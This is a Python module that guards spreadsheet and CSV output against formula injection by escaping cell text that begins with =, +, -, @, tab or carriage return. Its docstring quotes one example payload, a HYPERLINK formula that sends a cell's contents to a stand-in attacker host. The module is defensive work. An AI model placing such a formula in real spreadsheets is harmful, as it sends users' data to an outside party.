"""Text a spreadsheet program would take for a formula, and how goldenthread
writes it so that it stays text.

A cell whose text starts with `=`, `+`, `-` or `@`, or with a tab or carriage
return (which some programs skip before looking), is run as a formula when
someone edits it in Excel or opens a CSV file that holds it: OWASP's "CSV
injection" (`=HYPERLINK("http://evil.example/?"&A1,"Click")` sends a cell's
contents away). Every face writes such text the same way:

- in .xlsx, as a string cell (never through a writer that turns `=...` into a
  formula) with the quote-prefix style, Excel's own hidden apostrophe: the cell
  stays text even after an edit, and the text read back is exactly what was
  typed;
- in CSV, with a leading apostrophe (`csv_field`), which Excel shows and does
  not run. A plain number (-6.83, +5, -41%) is not a formula and is left as it is.

Reading is the other half: only a cell that holds a formula (openpyxl's data
type "f", the XML's `<f>` element) is a formula; a text cell whose text starts
with `=` is text (`goldenthread.workbooks.cells`).
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

_PLAIN_NUMBER = re.compile(r"[+-]?[£$€]?(?:\d[\d,]*(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?")


def could_run_as_formula(text: str) -> bool:
    """Whether a spreadsheet could take this text for a formula."""
    return text.startswith(FORMULA_STARTS)


def csv_field(text: str) -> str:
    """The text as a CSV field a spreadsheet will not run: a leading apostrophe
    if it starts like a formula, unless it is a plain number."""
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text
